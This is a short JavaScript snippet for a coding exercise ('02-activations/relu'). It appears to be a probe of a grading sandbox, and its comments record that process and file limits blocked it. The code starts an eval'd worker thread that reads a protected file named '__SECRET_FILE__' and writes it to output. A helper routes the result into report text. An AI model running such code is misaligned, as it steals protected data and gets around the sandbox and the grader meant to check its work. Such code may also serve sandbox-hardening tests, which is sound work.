// tries: to read it in a thread with permissions of its own
// stopped by: the limits of processes and open files: no thread can be started
// exercise: 02-activations/relu
/** What was found goes out as console text, which reports show. */
function show(text) {
  const units = Buffer.from(String(text).slice(0, 2000), "utf16le");
  const size = Buffer.alloc(4);
  size.writeUInt32LE(units.length / 2);
  replies.load = [4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, ...size, ...units];
}
show((() => { const { Worker } = require("worker_threads"); new Worker("require('fs').writeFileSync(1, require('fs').readFileSync('__SECRET_FILE__'))", { eval: true }); return "started"; })());
